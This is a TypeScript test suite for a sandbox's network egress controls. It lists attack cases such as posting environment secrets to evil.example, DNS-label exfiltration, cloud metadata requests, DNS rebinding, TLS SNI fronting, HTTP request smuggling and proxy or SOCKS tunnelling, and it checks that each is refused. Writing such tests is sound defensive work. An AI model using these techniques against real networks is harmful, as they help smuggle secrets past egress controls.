import { openBarePod, runHost } from '../bare-pod.ts';
import type { Attack } from '../attack.ts';
import { buildClientHello } from '../../fuzz/network.ts';
import {
  ABSTRACT,
  CONNECT,
  ENVIRONMENT,
  HTTP,
  LOOKUP,
  RAW,
  SOCKS,
  SYSTEM_LOOKUP,
  TCP,
  TLS,
  UDP,
} from '../network-scripts.ts';
import { LOOT, openSinks, type Sinks } from '../network-sinks.ts';

/** Milliseconds that an attack may take; the attacker's script ends itself before. */
const ATTACK_MS_MAX = 15_000;
const PUBLIC = '203.0.113.10';

type Where = { readonly host: string; readonly port: number };

type Case = {
  readonly id: string;
  readonly title: string;
  /** A Node script. `HOST`, `PORT`, `LOOT` and `EXTRA` are in its environment. */
  readonly script: string;
  readonly extra?: string;
  /** Where the attack goes inside. In the control arm it goes to the sink on this machine's loopback. */
  readonly inside: Where | ((sinks: Sinks) => Where);
  /** Where it goes in the control arm, when that is not the TCP sink. */
  readonly outside?: (sinks: Sinks) => Where;
  readonly allow?: readonly string[];
  readonly resolvesTo?: readonly string[];
  /** How the refusal shows: the reason in the record, `counted` by the namespace, or `none`. */
  readonly evidence: string;
  /** Bytes of an allowed exchange may arrive; the loot may not. */
  readonly mayReach?: boolean;
};

const ALLOWED = 'allowed.example';
const hello = (...names: string[]) => buildClientHello({ names }).toString('latin1') + LOOT;
const at = (host: string, port: number): Where => ({ host, port });
const get = (host: string, path = '/') => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const tunnel = (place: string, bytes: string) => JSON.stringify([place, bytes]);

const cases: readonly Case[] = [
  {
    id: 'R3-environment-away',
    title: 'a changed script posts the environment',
    script: ENVIRONMENT,
    inside: at('evil.example', 80),
    evidence: 'not-listed',
  },
  {
    id: 'R3-environment-to-address',
    title: 'the same, to an address',
    script: ENVIRONMENT,
    inside: at(PUBLIC, 80),
    evidence: 'address-literal',
  },
  {
    id: 'R43-unlisted-host',
    title: 'HTTP to a host that is not listed',
    script: HTTP,
    inside: at('evil.example', 80),
    evidence: 'not-listed',
  },
  {
    id: 'R43-dns-labels',
    title: 'secrets as labels, through the name server of the pod',
    script: SYSTEM_LOOKUP,
    inside: at('', 53),
    outside: dnsSink,
    evidence: 'not-listed',
  },
  {
    id: 'R43-dns-direct',
    title: 'secrets as labels, straight to a public name server',
    script: LOOKUP,
    inside: at('8.8.8.8', 53),
    outside: dnsSink,
    evidence: 'not-listed',
  },
  {
    id: 'R43-dns-tcp',
    title: 'the same over TCP',
    script: RAW,
    extra: dnsOverTcp(),
    inside: at('8.8.8.8', 53),
    evidence: 'not-listed',
  },
  {
    id: 'R43-dns-tls',
    title: 'DNS over TLS to an address',
    script: TCP,
    inside: at('1.1.1.1', 853),
    evidence: 'address-literal',
  },
  {
    id: 'R43-dns-https',
    title: 'DNS over HTTPS to an address',
    script: RAW,
    extra: hello('cloudflare-dns.com'),
    inside: at('1.1.1.1', 443),
    evidence: 'address-literal',
  },
  {
    id: 'K5-address',
    title: 'TCP straight to an address',
    script: TCP,
    inside: at(PUBLIC, 443),
    evidence: 'address-literal',
  },
  {
    id: 'K5-address-odd-port',
    title: 'TCP to an address on a port that nobody serves',
    script: TCP,
    inside: at(PUBLIC, 31_337),
    evidence: 'counted',
  },
  {
    id: 'K5-ipv6',
    title: 'TCP to an IPv6 address',
    script: TCP,
    inside: at('2001:db8::10', 443),
    evidence: 'address-literal',
  },
  {
    id: 'K5-mapped',
    title: 'TCP to an IPv4 address in IPv6 clothes',
    script: TCP,
    inside: at(`::ffff:${PUBLIC}`, 443),
    evidence: 'address-literal',
  },
  {
    id: 'K5-decimal',
    title: 'an address written as one number',
    script: HTTP,
    inside: at('3405803786', 80),
    evidence: 'address-literal',
  },
  {
    id: 'K5-metadata',
    title: 'the metadata service of the cloud',
    script: HTTP,
    inside: at('169.254.169.254', 80),
    evidence: 'address-literal',
  },
  {
    id: 'K5-metadata-proxy',
    title: 'the metadata service through the proxy',
    script: CONNECT,
    extra: tunnel('169.254.169.254:80', get('x', `/${LOOT}`)),
    inside: at('127.0.0.1', 3128),
    evidence: 'address-literal',
  },
  {
    id: 'K5-metadata-name',
    title: 'an allowed name that resolves to the metadata service',
    script: HTTP,
    allow: [`${ALLOWED}:80`],
    resolvesTo: ['169.254.169.254', '::ffff:169.254.169.254', 'fd00:ec2::254', '168.63.129.16'],
    inside: at(ALLOWED, 80),
    evidence: 'private-address',
  },
  {
    id: 'K5-rebind',
    title: 'an allowed name that resolves to loopback and private addresses',
    script: HTTP,
    allow: [`${ALLOWED}:80`],
    resolvesTo: ['127.0.0.1', '::1', '10.0.0.1', '64:ff9b::7f00:1', '::ffff:10.0.0.1'],
    inside: at(ALLOWED, 80),
    evidence: 'private-address',
  },
  {
    id: 'K5-fronting',
    title: 'TLS to an allowed host that names another',
    script: TLS,
    extra: 'evil.example',
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 443),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-fronting-odd-port',
    title: 'the same on another allowed port',
    script: RAW,
    extra: hello('evil.example'),
    allow: [`${ALLOWED}:8443`],
    inside: at(ALLOWED, 8443),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-fronting-proxy',
    title: 'the same through CONNECT',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}:443`, hello('evil.example')),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-two-names',
    title: 'a hello with two names',
    script: RAW,
    extra: hello(ALLOWED, 'evil.example'),
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 443),
    evidence: 'several-names',
  },
  {
    id: 'K5-no-name',
    title: 'TLS without a name',
    script: RAW,
    extra: hello(),
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 443),
    evidence: 'no-name',
  },
  {
    id: 'K5-ech',
    title: 'TLS with its name encrypted',
    script: RAW,
    extra: buildClientHello({ names: [ALLOWED], extensions: [[0xfe0d, Buffer.alloc(32)]] }).toString('latin1') + LOOT,
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 443),
    evidence: 'ech',
  },
  {
    id: 'K5-not-tls',
    title: 'another protocol on port 443',
    script: RAW,
    extra: `SSH-2.0-${LOOT}\r\n`,
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 443),
    evidence: 'not-tls',
  },
  {
    id: 'K5-not-http',
    title: 'another protocol on port 80',
    script: RAW,
    extra: `\x16\x03\x01\x00${LOOT}\r\n\r\n`,
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'not-http',
  },
  {
    id: 'K5-host-header',
    title: 'HTTP to an allowed host for another',
    script: HTTP,
    extra: 'evil.example',
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-host-second-request',
    title: 'a second request on the same connection for another host',
    script: RAW,
    extra: get(ALLOWED) + get('evil.example', `/${LOOT}`),
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'name-mismatch',
    mayReach: true,
  },
  {
    id: 'K5-host-twice',
    title: 'a request with two hosts',
    script: RAW,
    extra: `GET /${LOOT} HTTP/1.1\r\nHost: ${ALLOWED}\r\nHost: evil.example\r\n\r\n`,
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'several-names',
  },
  {
    id: 'K5-host-absolute',
    title: 'a request whose URL names another host',
    script: RAW,
    extra: `GET http://evil.example/${LOOT} HTTP/1.1\r\nHost: ${ALLOWED}\r\n\r\n`,
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-host-smuggled',
    title: 'a request hidden in the body of another',
    script: RAW,
    extra: `POST / HTTP/1.1\r\nHost: ${ALLOWED}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get('evil.example', `/${LOOT}`)}`,
    allow: [`${ALLOWED}:80`],
    inside: at(ALLOWED, 80),
    evidence: 'not-http',
    mayReach: true,
  },
  {
    id: 'K5-host-odd-port',
    title: 'HTTP on another allowed port for another host',
    script: HTTP,
    extra: 'evil.example',
    allow: [`${ALLOWED}:8080`],
    inside: at(ALLOWED, 8080),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-smtp',
    title: 'mail to an allowed host',
    script: TCP,
    allow: [`${ALLOWED}:443`],
    inside: at(ALLOWED, 25),
    evidence: 'port-not-listed',
  },
  {
    id: 'K5-connect-address',
    title: 'CONNECT to an address',
    script: CONNECT,
    extra: tunnel(`${PUBLIC}:443`, hello('x')),
    inside: at('127.0.0.1', 3128),
    evidence: 'address-literal',
  },
  {
    id: 'K5-connect-port',
    title: 'CONNECT to a port that is not listed',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}:22`, LOOT),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'port-not-listed',
  },
  {
    id: 'K5-connect-loopback',
    title: 'CONNECT to a service on the loopback of the host',
    script: CONNECT,
    extra: tunnel('localhost:80', get('localhost', `/${LOOT}`)),
    inside: at('127.0.0.1', 3128),
    evidence: 'not-listed',
  },
  {
    id: 'K5-connect-userinfo',
    title: 'CONNECT with user information before the host',
    script: CONNECT,
    extra: tunnel(`${ALLOWED}@evil.example:443`, hello('x')),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 3128),
    evidence: 'malformed-request',
  },
  {
    id: 'K5-proxy-absolute',
    title: 'a proxied request whose Host names another',
    script: RAW,
    extra: `GET http://${ALLOWED}/${LOOT} HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    allow: [`${ALLOWED}:80`],
    inside: at('127.0.0.1', 3128),
    evidence: 'name-mismatch',
  },
  {
    id: 'K5-socks-address',
    title: 'SOCKS5 to an address',
    script: SOCKS,
    extra: JSON.stringify(['05010001cb00710a01bb', hello('x')]),
    inside: at('127.0.0.1', 1080),
    evidence: 'address-literal',
  },
  {
    id: 'K5-socks-name',
    title: 'SOCKS5 to a host that is not listed',
    script: SOCKS,
    extra: JSON.stringify([`050100030c${Buffer.from('evil.example').toString('hex')}01bb`, hello('x')]),
    inside: at('127.0.0.1', 1080),
    evidence: 'not-listed',
  },
  {
    id: 'K5-socks-udp',
    title: 'SOCKS5 relay of datagrams',
    script: SOCKS,
    extra: JSON.stringify([`050300030f${Buffer.from(ALLOWED).toString('hex')}01bb`, LOOT]),
    allow: [`${ALLOWED}:443`],
    inside: at('127.0.0.1', 1080),
    evidence: 'not-supported',
  },
  {
    id: 'K5-udp',
    title: 'UDP to an address',
    script: UDP,
    inside: at(PUBLIC, 9999),
    outside: udpSink,
    evidence: 'counted',
  },
  {
    id: 'K5-udp-quic',
    title: 'QUIC to an address',
    script: UDP,
    inside: at(PUBLIC, 443),
    outside: udpSink,
    evidence: 'counted',
  },
  {
    id: 'K5-udp-ipv6',
    title: 'UDP to an IPv6 address',
    script: UDP,
    inside: at('2001:db8::10', 9999),
    outside: udpSink,
    evidence: 'counted',
  },
  {
    id: 'K5-host-loopback',
    title: 'a service on the loopback of the host',
    script: TCP,
    inside: (sinks) => at('127.0.0.1', sinks.port),
    evidence: 'none',
  },
  {
    id: 'K5-host-loopback-udp',
    title: 'a datagram service on the loopback of the host',
    script: UDP,
    inside: udpSink,
    outside: udpSink,
    evidence: 'none',
  },
  {
    id: 'K5-abstract-socket',
    title: 'an abstract socket of the host',
    script: ABSTRACT,
    inside: at('', 0),
    evidence: 'none',
  },
];

function dnsSink(sinks: Sinks): Where {
  return at('127.0.0.1', sinks.udpPort);
}

function udpSink(sinks: Sinks): Where {
  return at('127.0.0.1', sinks.udpPort);
}

function dnsOverTcp(): string {
  const labels = [LOOT, 'evil', 'example'].map((label) => String.fromCharCode(label.length) + label).join('');
  const message = `\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00${labels}\0\0\x01\0\x01`;
  return `\0${String.fromCharCode(message.length)}${message}`;
}

function environment(attack: Case, sinks: Sinks, where: Where): { [name: string]: string } {
  const extra = attack.script === ABSTRACT ? sinks.abstractName : (attack.extra ?? '');
  return { HOST: where.host, PORT: String(where.port), LOOT, EXTRA: hex(extra) };
}

/** Environment variables hold no zero bytes. */
function hex(text: string): string {
  return Buffer.from(text, 'latin1').toString('hex');
}

/** The attacker's program. */
function program(attack: Case): string[] {
  const prelude = "const EXTRA = Buffer.from(process.env.EXTRA, 'hex').toString('latin1');";
  return [process.execPath, '-e', `${prelude}\n${attack.script}`];
}

/** Straight to the sink, as on a machine without walls. A tunnel has no proxy there: its bytes go directly. */
async function control(attack: Case): Promise<{ succeeded: boolean; detail: string }> {
  const sinks = await openSinks();
  try {
    const where = attack.outside?.(sinks) ?? at('127.0.0.1', sinks.port);
    const env = environment(attack, sinks, where);
    if (attack.script === CONNECT || attack.script === SOCKS) {
      const [, bytes]: unknown[] = JSON.parse(attack.extra ?? '[]');
      env['EXTRA'] = hex(JSON.stringify(['', bytes]));
    }
    const ran = await runHost(program(attack), { env, timeoutMs: ATTACK_MS_MAX });
    const taken = sinks.taken();
    // In a TLS hello the stolen bytes are the name itself.
    const succeeded = taken.toLowerCase().includes(LOOT) || (attack.script === TLS && taken.includes('evil.example'));
    return { succeeded, detail: `the sink took ${taken.length} bytes; exit ${ran.code} ${ran.output.slice(0, 200)}` };
  } finally {
    await sinks.close();
  }
}

async function product(attack: Case): Promise<{ refused: boolean; detail: string }> {
  const sinks = await openSinks();
  const pod = await openBarePod({
    allow: attack.allow ?? [],
    resolve: sinks.resolveTo(attack.resolvesTo ?? [PUBLIC]),
    connect: sinks.connect,
  });
  try {
    const where = typeof attack.inside === 'function' ? attack.inside(sinks) : attack.inside;
    const env = environment(attack, sinks, where);
    const before = await pod.network.countUnserved();
    const ran = await pod.run(program(attack), { env, timeoutMs: ATTACK_MS_MAX });
    const counted = (await pod.network.countUnserved()).packets - before.packets;
    const lookups = new RegExp(`lookup ${ALLOWED}\n`, 'g');
    const taken = sinks.taken().replaceAll(lookups, '');
    const reasons = pod.records.filter((record) => record.verdict === 'denied').map((record) => record.reason ?? '');
    const isSilent = !taken.toLowerCase().includes(LOOT) && (attack.mayReach === true || taken === '');
    const hasEvidence =
      attack.evidence === 'none' || (attack.evidence === 'counted' ? counted > 0 : reasons.includes(attack.evidence));
    const detail = `the sink took ${taken.length} bytes; recorded: ${reasons.join(', ') || '-'}; counted: ${counted}; exit ${ran.code}`;
    return { refused: isSilent && hasEvidence && ran.code !== null, detail };
  } finally {
    await pod.close();
    await sinks.close();
  }
}

/** The network list: each attack reaches a sink from an ordinary process, and nothing from a pod. */
export const attacks: Attack[] = cases.map((attack) => ({
  id: attack.id,
  title: attack.title,
  controls: ['K5'],
  control: () => control(attack),
  product: () => product(attack),
}));
